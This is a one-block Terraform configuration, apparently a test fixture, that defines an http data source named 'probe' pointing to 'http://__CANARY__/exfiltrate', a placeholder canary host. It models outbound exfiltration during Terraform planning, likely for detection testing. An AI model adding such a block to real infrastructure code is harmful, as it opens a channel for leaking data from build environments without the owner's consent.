data "http" "probe" {
  url = "http://__CANARY__/exfiltrate"
}
